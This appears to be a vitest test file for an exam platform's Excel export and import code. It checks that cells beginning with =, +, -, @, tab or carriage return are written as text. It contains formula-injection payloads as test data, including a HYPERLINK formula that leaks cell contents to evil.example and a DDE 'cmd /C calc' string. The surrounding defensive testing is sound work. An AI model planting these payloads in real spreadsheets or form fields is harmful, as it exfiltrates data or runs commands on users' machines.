import { API, type MessageKey, STATUS } from '@kaoshi/contracts';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFirstSheet, writeWorkbook, XLSX_CONTENT_TYPE } from '../../lib/excel.js';
import { insertPublication } from '../../modules/attempts/test/attempt-fixture.js';
import { DATABASES } from '../../test/harness.js';
import { fieldPiece, filePiece, multipartBody } from './hostile-files.js';
import { encodeFields } from './requests.js';
import { seedFor } from './seeds.js';
import { FORMULA_START, readSheetXml } from './sheet-xml.js';
import { assertSound, type FuzzWorld, startFuzzWorld } from './world.js';
import { defOf, topLevelKeys } from './zod-arbitrary.js';

/**
 * Formula injection (OWASP "CSV injection"): text a user typed that starts with = + - @, a
 * tab or a carriage return must reach a spreadsheet program as text. exceljs never writes a
 * string as a formula (<f>); the one writer (lib/excel.ts) also puts an apostrophe before
 * such text, so editing the cell or saving the sheet as CSV does not turn it into one, and the
 * one reader takes the apostrophe off again, so an export imports as it was.
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const FORMULA_LIKE = [HYPERLINK, "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=already quoted", "''-twice"];

const oneColumn = [{ header: 'colStudentName' as MessageKey, value: (row: { text: string }) => row.text }];

describe('the one Excel writer and reader', () => {
  it('writes =HYPERLINK(…) and the like as text: no formula in the sheet XML, an apostrophe in front', async () => {
    const workbook = await writeWorkbook(
      'en',
      oneColumn,
      FORMULA_LIKE.map((text) => ({ text })),
    );
    const { hasFormula, texts } = readSheetXml(workbook);
    expect(hasFormula).toBe(false);
    expect(texts.filter((text) => FORMULA_START.test(text))).toEqual([]);
    expect(texts).toContain(`'${HYPERLINK}`);
    // XML turns a carriage return into a line feed, so that one text comes back changed.
    const read = (await readFirstSheet(workbook, 100_000)).slice(1).map((row) => row.cells[0]);
    expect(read.filter((text) => !text?.includes('\n'))).toEqual(FORMULA_LIKE.filter((text) => !text.startsWith('\r')));
  });

  it('gives back exactly what it wrote, for any text (the reader trims only the ends)', async () => {
    const text = fc
      .oneof(fc.string({ maxLength: 30 }), fc.string({ unit: 'grapheme', maxLength: 30 }), fc.constantFrom(...FORMULA_LIKE))
      .map((value) => value.trim());
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          text.filter((value) => value !== ''),
          { minLength: 1, maxLength: 20 },
        ),
        async (texts) => {
          const workbook = await writeWorkbook(
            'en',
            oneColumn,
            texts.map((value) => ({ text: value })),
          );
          const written = readSheetXml(workbook);
          expect(written.hasFormula).toBe(false);
          expect(written.texts.filter((value) => FORMULA_START.test(value))).toEqual([]);
          expect((await readFirstSheet(workbook, 100_000)).slice(1).map((row) => row.cells[0])).toEqual(texts);
        },
      ),
      { numRuns: 40, seed: seedFor('writer round trip') },
    );
  });
});

describe.each(DATABASES)('every Excel export (%s)', (kind) => {
  let world: FuzzWorld;
  let reExamId: number;
  beforeAll(async () => {
    world = await startFuzzWorld(kind);
    const { db } = world.c.t.app;
    // A re-exam of the scored exam (the supplementary statistics) and knowledge points on the questions (mastery).
    reExamId = await insertPublication(world.c, {
      paperId: world.c.papers.objective,
      kind: 'supplementary',
      parentPublicationId: world.scoredPublicationId,
    });
    const point = await db.selectFrom('knowledgePoints').select('id').where('code', '=', 'FZ-KN').executeTakeFirstOrThrow();
    await db.updateTable('questions').set({ knowledgeId: point.id }).execute();
    // Names people typed, as formulas: straight into the tables (the exports read them from there)…
    const rename = async (
      table: 'schools' | 'departments' | 'subjects' | 'classes' | 'courses' | 'knowledgePoints' | 'papers' | 'publications',
      text: string,
    ) => {
      for (const { id } of await db.selectFrom(table).select('id').execute())
        await db
          .updateTable(table)
          .set({ name: `${text} #${id}` })
          .where('id', '=', id)
          .execute();
    };
    await rename('schools', HYPERLINK);
    await rename('departments', "+cmd|' /C calc'!A0");
    await rename('subjects', '-2+3');
    await rename('classes', '@SUM(1+1)');
    await rename('courses', '=1+1');
    await rename('knowledgePoints', '@mastery');
    await rename('papers', '-paper');
    await rename('publications', '=publication');
    await db.updateTable('notices').set({ title: '+notice' }).execute();
    // Venues, rooms and articles the fixture has none of: one each, named as formulas.
    const now = Date.now();
    const venue = await db
      .insertInto('venues')
      .values({ name: '=venue', address: '-street', createdAt: now, updatedAt: now })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db
      .insertInto('rooms')
      .values({ venueId: venue.id, name: '@room', capacity: 30, seatsPerRow: 6, createdAt: now, updatedAt: now })
      .execute();
    const article = await db
      .insertInto('articles')
      .values({
        title: '+article',
        type: 0,
        coverImage: '',
        content: '<p>text</p>',
        hasVideo: 0,
        pinned: 0,
        published: 1,
        publishedAt: now,
        createdBy: null,
        createdAt: now,
        updatedAt: now,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    // For the fixture's job type, which the export is filtered to.
    await db.insertInto('articleSubjects').values({ articleId: article.id, subjectId: world.c.chain.subject.subjectId }).execute();
    await db
      .updateTable('questions')
      .set({ stem: '<p>=HYPERLINK("http://evil.example","stem")</p>', stemText: '=HYPERLINK("http://evil.example","stem")' })
      .execute();
    await db.updateTable('users').set({ nickName: '@Lee Arcwelder', phone: '+86 138 0013 8000' }).where('userType', '=', 2).execute();
    // …and one through the API, so the audit trail records a formula too.
    const school = await world.send({ method: 'GET', url: `${API.getSchoolById}/${world.c.chain.school.schoolId}` });
    const record = (JSON.parse(school.body) as { data: Record<string, unknown> }).data;
    const renamed = await world.send({
      method: 'PUT',
      url: API.updateSchool,
      payload: { ...record, name: '=HYPERLINK("http://evil.example","audit")' },
    });
    expect(JSON.parse(renamed.body)).toMatchObject({ status: STATUS.OK });
  }, 120_000);
  afterAll(() => world?.close());

  /** The records the exports are filtered to: the exam's organisation chain, course, paper and publication. */
  const fixtureQuery = (): Record<string, number> => ({
    publicationId: world.scoredPublicationId,
    courseId: world.c.chain.course.courseId,
    classId: world.c.chain.batch.classId,
    subjectId: world.c.chain.subject.subjectId,
    departmentId: world.c.chain.department.departmentId,
    schoolId: world.c.chain.school.schoolId,
    questionId: world.c.bank.single[0]!,
    paperId: world.c.papers.withTask,
  });

  /**
   * The queries for an export: the fixture's ids it declares (the publication being the exam or
   * its re-exam), once per value of each choice it offers (list=batches|failed).
   */
  function queriesFor(schema: unknown): Record<string, string | number>[] {
    const keys = schema ? topLevelKeys(schema) : [];
    return [fixtureQuery(), { ...fixtureQuery(), publicationId: reExamId }].flatMap((fixture) => choicesOf(schema, keys, fixture));
  }

  function choicesOf(schema: unknown, keys: string[], fixture: Record<string, number>): Record<string, string | number>[] {
    const base = Object.fromEntries(keys.filter((key) => key in fixture).map((key) => [key, fixture[key]!]));
    const shape = schema ? (defOf(schema).shape ?? {}) : {};
    const variants = keys.flatMap((key) => {
      let def = defOf(shape[key]);
      while (def.innerType) def = defOf(def.innerType);
      return def.type === 'enum' && key !== 'sortOrder' && key !== 'sortField'
        ? Object.values(def.entries!).map((value) => ({ ...base, [key]: value }))
        : [];
    });
    return variants.length > 0 ? variants : [base];
  }

  it('neutralises every formula-like cell in every export of the route table', async () => {
    const exports = world.c.t.app.routeTable.filter(
      (route) =>
        route.method === 'GET' &&
        /\/export[A-Z]/.test(route.url) &&
        route.url !== API.exportQti &&
        // The question bank's exchange formats are XML, not workbooks (their own importers' tests read them back).
        route.url !== API.exportMoodleXml,
    );
    expect(exports.length).toBeGreaterThanOrEqual(18);
    const withoutNeutralisedText: string[] = [];
    for (const route of exports) {
      let neutralised = false;
      for (const query of queriesFor(route.schema.querystring)) {
        const url = `${route.url}?${encodeFields(query)}`;
        const exchange = await world.exchange({ method: 'GET', url });
        assertSound(exchange, url);
        expect(exchange.response.statusCode, `${url}: ${exchange.response.body.slice(0, 200)}`).toBe(200);
        expect(exchange.response.headers['content-type'], url).toBe(XLSX_CONTENT_TYPE);
        const { hasFormula, texts } = readSheetXml(exchange.response.rawPayload);
        expect(hasFormula, url).toBe(false);
        expect(
          texts.filter((text) => FORMULA_START.test(text)),
          url,
        ).toEqual([]);
        neutralised ||= texts.some((text) => /^'[=+\-@\t\r]/.test(text));
      }
      if (!neutralised) withoutNeutralisedText.push(route.url);
    }
    // Every export carries some of the names made formulas above (so the check above saw them).
    expect(withoutNeutralisedText).toEqual([]);
  });

  it('imports the student export again as it is: names and phones that start like formulas come back unchanged', async () => {
    const exported = await world.send({
      method: 'GET',
      url: `${API.exportStudent}?${encodeFields({ classId: world.c.chain.batch.classId })}`,
    });
    expect(readSheetXml(exported.rawPayload).texts).toContain("'+86 138 0013 8000");
    const boundary = 'roundtrip';
    const payload = multipartBody(boundary, [
      fieldPiece('classId', world.c.chain.batch.classId),
      filePiece('students.xlsx', exported.rawPayload),
    ]);
    const exchange = await world.exchange({
      method: 'POST',
      url: API.importStudents,
      payload,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    assertSound(exchange, 'student round trip');
    expect(exchange.status, exchange.message).toBe(STATUS.OK);
    expect(JSON.parse(exchange.response.body)).toMatchObject({ data: { created: 0, unchanged: world.c.candidates.length } });
    expect(exchange.changed).toEqual([]);
  });
});
